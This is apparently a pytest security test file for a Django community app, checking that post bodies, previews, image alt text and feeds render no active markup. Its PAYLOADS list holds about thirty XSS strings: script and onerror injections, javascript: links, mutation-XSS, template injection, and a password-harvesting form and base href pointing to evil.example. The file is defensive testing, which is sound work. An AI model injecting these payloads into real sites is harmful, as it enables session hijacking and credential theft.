"""Threat 34: no text of a post becomes markup that acts, wherever it is shown: API, pages, feeds."""

import json
from html.parser import HTMLParser
from typing import Any

import pytest
from defusedxml.ElementTree import fromstring
from django.core.cache import cache
from django.test import Client

from accounts.tests.factories import UserFactory
from social.tests.posts import post_of

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<a href="javascript:alert(1)">x</a>',
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt&colon;alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:alert(1))",
    '[x](//evil.example/" onmouseover=alert(1) x=")',
    "![x](javascript:alert(1))",
    "![x](https://evil.example/track.gif)",
    '![" onerror="alert(1)](image:0198c0de-0000-7000-8000-000000000000)',
    '![x](image:0198c0de" onerror="alert(1))',
    "<javascript:alert(1)>",
    "||<script>alert(1)</script>||",
    "||[x](javascript:alert(1))||",
    "@<script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    '```html" onmouseover="alert(1)\n<script>alert(1)</script>\n```',
    "| a | b |\n|---|---|\n| <script>alert(1)</script> | [x](javascript:alert(1)) |",
    "# <script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "{{ settings.SECRET_KEY }} {% debug %}",
    "\u202e<script>alert(1)</script>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<form action=https://evil.example><input name=password>",
    "<base href=https://evil.example>",
]
TAGS = frozenset(
    {
        "p",
        "br",
        "hr",
        "strong",
        "em",
        "s",
        "code",
        "pre",
        "blockquote",
        "ul",
        "ol",
        "li",
        "a",
        "span",
        "picture",
        "source",
    }
    | {"img", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"}
)


class Walk(HTMLParser):
    """Gathers what acts: tags (of a text, but not of a whole page) and attributes that the rules do not know, addresses
    that are none of http(s) or a path.
    """

    def __init__(self, *, is_page: bool) -> None:
        super().__init__()
        self.is_page, self.acts = is_page, list[str]()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS and not self.is_page:
            self.acts.append(tag)
        for name, value in attrs:
            address = (value or "").strip().lower()
            if name.startswith("on") or name == "srcdoc" or (name in ("style", "action") and not self.is_page):
                self.acts.append(f"{tag} {name}")
            if name in ("href", "src", "action") and not address.startswith(("http://", "https://", "/", "#", "?")):
                self.acts.append(f"{tag} {name}={address}")
            if name in ("src", "srcset") and "evil.example" in address:
                self.acts.append(f"loads {address}")


def acting(html: str, *, is_page: bool = False) -> list[str]:
    walk = Walk(is_page=is_page)
    walk.feed(html)
    return walk.acts


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_acts(payload: str) -> None:
    author = UserFactory.create(display_name="<b>x</b>")
    post = post_of(author, title=" ".join(payload.splitlines())[:200], body=f"{payload}\n\nend")
    found = Client().get(f"/api/v1/posts/{post.pk}").json()
    assert found["body"] == f"{payload}\n\nend"
    assert acting(found["html"]) == []
    assert "end" in found["html"]
    for path in ("/community", f"/community/posts/{post.pk}"):
        page = Client().get(path)
        assert page.status_code == 200
        text = page.content.decode()
        assert "<script>alert(1)" not in text
        assert "<img src=x" not in text
        assert acting(text, is_page=True) == []
        assert "<b>x</b>" not in text
    for path in ("/community/feed.xml", "/community/feed.atom"):
        cache.clear()
        root = fromstring(Client().get(path).content)
        assert not [element.tag for element in root.iter() if str(element.tag).lower().endswith("script")]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_preview_acts(payload: str) -> None:
    client = Client()
    client.force_login(UserFactory.create())
    answer: Any = client.post("/api/v1/posts/preview", json.dumps({"body": payload}), content_type="application/json")
    assert acting(answer.json()["html"]) == []


def test_a_picture_of_ours_is_described_in_words_alone() -> None:
    from social.services.post_texts import image_html
    from social.tests.posts import image_of

    image = image_of(UserFactory.create(), alt='" onerror="alert(1)')
    for words in ("", '"><script>alert(1)</script>'):
        made = image_html(image, words)
        assert made is not None
        assert acting(made) == []
